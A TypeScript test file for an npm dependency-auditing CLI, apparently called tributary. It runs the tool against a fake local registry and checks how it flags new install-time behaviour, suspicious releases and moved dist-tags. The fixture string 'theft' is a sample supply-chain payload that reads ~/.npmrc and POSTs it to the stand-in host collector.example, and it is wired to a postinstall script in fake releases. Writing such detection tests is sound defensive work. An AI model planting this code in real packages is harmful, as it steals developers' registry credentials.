/** Question five in a plain check, as its user meets it: the real command, a real project, a registry on this machine. */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { type TestContext, test } from "node:test";
import { type FakePackage, type RunningRegistry, startRegistry } from "./registry/registry.ts";

const launcher = resolve(import.meta.dirname, "..", "bin", "tributary.js");
const DAY = 24 * 60 * 60 * 1000;
const daysAgo = (days: number): string => new Date(Date.now() - days * DAY).toISOString();

const honest = "exports.sum = (list) => list.reduce((a, b) => a + b, 0);\n";
/** Aimed at a name that cannot exist, and never run. */
const theft = `${honest}const https = require("https");
const request = https.request({ host: "collector.example", method: "POST" });
request.end(require("fs").readFileSync(require("os").homedir() + "/.npmrc"));
`;

const packages: readonly FakePackage[] = [
  {
    name: "turned",
    releases: [
      { version: "1.0.0", files: { "index.js": honest }, published: daysAgo(400) },
      { version: "1.0.1", files: { "index.js": theft }, manifest: { scripts: { postinstall: "node index.js" } }, published: daysAgo(3) },
      { version: "1.0.2", files: { "index.js": theft }, manifest: { scripts: { postinstall: "node index.js" } }, published: daysAgo(2) },
    ],
  },
  {
    name: "steady",
    releases: [
      { version: "2.0.0", files: { "index.js": honest }, published: daysAgo(500) },
      { version: "2.1.0", files: { "index.js": `${honest}exports.one = 1;\n` }, published: daysAgo(400) },
      { version: "2.2.0", files: { "index.js": `${honest}exports.one = 2;\n` }, published: daysAgo(350) },
    ],
  },
  { name: "native", releases: [{ version: "1.0.0", files: { "binding.gyp": "{}", "index.js": honest }, published: daysAgo(600) }] },
];

interface Report {
  readonly unanswered: readonly { readonly because: string; readonly subjects: readonly string[] }[];
  readonly findings: readonly { readonly rule: string; readonly subject: string; readonly severity: string; readonly message: string }[];
  readonly answers: readonly {
    readonly question: string;
    readonly outcome: string;
    readonly sentence: string;
    readonly answered: number;
    readonly asked: number;
  }[];
}

class Desk {
  readonly home = mkdtempSync(join(tmpdir(), "tributary-change-"));
  readonly registry: RunningRegistry;

  constructor(registry: RunningRegistry) {
    this.registry = registry;
    mkdirSync(join(this.home, "project"));
    writeFileSync(join(this.home, "project", ".npmrc"), `registry=${registry.url}\nfetch-retries=0\n`);
  }

  has(versions: Readonly<Record<string, string>>): void {
    const entries = Object.entries(versions).map(([name, version]) => [
      `node_modules/${name}`,
      { version, ...this.registry.lockEntry(name, version) },
    ]);
    const lock = {
      name: "p",
      version: "1.0.0",
      lockfileVersion: 3,
      packages: { "": { name: "p", version: "1.0.0", dependencies: versions }, ...Object.fromEntries(entries) },
    };
    writeFileSync(join(this.home, "project", "package-lock.json"), JSON.stringify(lock, null, 1));
  }

  async check(...args: readonly string[]): Promise<Report> {
    const env = { HOME: this.home, PATH: process.env["PATH"] ?? "", TRIBUTARY_OSV_API: `${this.registry.url}osv` };
    const child = spawn(process.execPath, [launcher, "check", "--format", "json", ...args], { cwd: join(this.home, "project"), env });
    let out = "";
    let err = "";
    child.stdout.on("data", (chunk: Buffer) => (out += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (err += chunk.toString()));
    const status = await new Promise((done) => child.on("close", done));
    assert.ok(status === 0 || status === 1, err);
    return JSON.parse(out) as Report;
  }
}

async function desk(t: TestContext): Promise<Desk> {
  const made = new Desk(await startRegistry({ packages }));
  t.after(async () => {
    await made.registry.close();
    rmSync(made.home, { recursive: true, force: true });
  });
  return made;
}

const behaviour = ({ findings }: Report): readonly string[] =>
  findings
    .filter(({ rule }) => rule.startsWith("behaviour/"))
    .map(({ rule, subject, severity }) => `${rule.slice(10)} ${subject.slice(8)} ${severity}`);
const five = ({ answers }: Report): Report["answers"][number] | undefined => answers.find(({ question }) => question === "behaviour");

test("a young release is compared with the one before it, an old one is not and is not called fine", async (t) => {
  const at = await desk(t);
  at.has({ turned: "1.0.1", steady: "2.1.0", native: "1.0.0" });
  const report = await at.check();
  assert.deepEqual(behaviour(report), [
    "new-behaviour turned@1.0.1 high",
    "new-self-run turned@1.0.1 moderate",
    "runs-at-install native@1.0.0 info",
    "runs-at-install turned@1.0.1 info",
  ]);
  assert.ok(report.findings.some(({ rule, severity }) => rule === "continuity/suspicious-release" && severity === "critical"));
  const answer = five(report);
  assert.deepEqual([answer?.answered, answer?.asked], [1, 3]);
  assert.match(
    answer?.sentence ?? "",
    /2 run something when installed: native@1\.0\.0, turned@1\.0\.1\. 1 release was compared with the one before it\. Not asked about 1 that are the first release of their package, 1 that came out more than 90 days ago/,
  );

  at.has({ steady: "2.1.0" });
  const calm = five(await at.check());
  assert.deepEqual([calm?.outcome, calm?.answered], ["not-asked", 0]);
  const all = five(await at.check("--behaviour", "all"));
  assert.deepEqual([all?.outcome, all?.answered, all?.asked], ["pass", 1, 1]);
  assert.match(all?.sentence ?? "", /^Nothing runs by itself when it is installed\. 1 release was compared with the one before it\.$/);
});

test("the second check fetches nothing, and says the same without the network", async (t) => {
  const at = await desk(t);
  at.has({ turned: "1.0.1", steady: "2.1.0" });
  const first = await at.check();
  const asked = at.registry.requests.filter(({ path }) => path.endsWith(".tgz")).length;
  assert.equal(asked, 3, "two releases and the one before the young one");
  assert.deepEqual(behaviour(await at.check()), behaviour(first));
  assert.deepEqual(behaviour(await at.check("--offline")), behaviour(first));
  assert.equal(at.registry.requests.filter(({ path }) => path.endsWith(".tgz")).length, asked);
});

test("what the last check saw is what an exchanged release is held to, as often as one looks", async (t) => {
  const at = await desk(t);
  at.has({ steady: "2.0.0" });
  await at.check();
  at.has({ steady: "2.2.0" });
  for (const round of ["first", "second"]) {
    const answer = five(await at.check());
    assert.deepEqual([round, answer?.outcome, answer?.answered], [round, "pass", 1]);
  }
});

test("a release in doubt does not become what the next one is held to", async (t) => {
  const at = await desk(t);
  at.has({ turned: "1.0.0" });
  await at.check();
  at.has({ turned: "1.0.1" });
  await at.check();
  at.has({ turned: "1.0.2" });
  const report = await at.check();
  assert.ok(behaviour(report).includes("new-self-run turned@1.0.2 moderate"), behaviour(report).join());
  assert.match(report.findings.find(({ rule }) => rule === "behaviour/new-behaviour")?.message ?? "", /^Against 1\.0\.0, /);
});

test("one release that cannot be compared is unknown for that one only", async (t) => {
  const at = await desk(t);
  at.has({ turned: "1.0.1", steady: "2.1.0" });
  at.registry.misbehave((path) => (path.endsWith("turned-1.0.0.tgz") ? { kind: "status", status: 404 } : null));
  const report = await at.check("--behaviour", "all");
  const answer = five(report);
  assert.deepEqual([answer?.outcome, answer?.answered, answer?.asked], ["unknown", 1, 2]);
  const gaps = report.unanswered.filter(({ because }) => because.includes("could not be compared"));
  assert.ok(gaps.length > 0 && gaps.every(({ subjects }) => subjects.join() === "pkg:npm/turned@1.0.1"), JSON.stringify(gaps));
});

const movedNames = ({ findings }: Report): readonly string[] =>
  findings.filter(({ rule }) => rule === "continuity/tag-moved").map(({ severity, message }) => `${severity} ${message}`);

test("a name that goes back between two checks is told by the second and by those after it, until it is put back", async (t) => {
  const at = await desk(t);
  const moved = (latest: string): void => {
    const steady = packages.find(({ name }) => name === "steady");
    if (steady !== undefined) at.registry.publish({ ...steady, distTags: { latest } });
  };
  at.has({ steady: "2.2.0" });
  moved("2.2.0");
  assert.deepEqual(movedNames(await at.check()), []);
  moved("2.1.0");
  const second = movedNames(await at.check("--fresh"));
  assert.equal(second.length, 1);
  const day = new Date().toISOString().slice(0, 7);
  assert.ok(
    second[0]?.startsWith(`moderate steady@2.2.0: The registry's name "latest" stands for 2.1.0; when it was last seen here (${day}`),
    second[0],
  );
  assert.deepEqual(movedNames(await at.check("--fresh")), second);
  assert.deepEqual(movedNames(await at.check("--offline")), second);
  moved("2.2.0");
  assert.deepEqual(movedNames(await at.check("--fresh")), [], "it was put back");
});
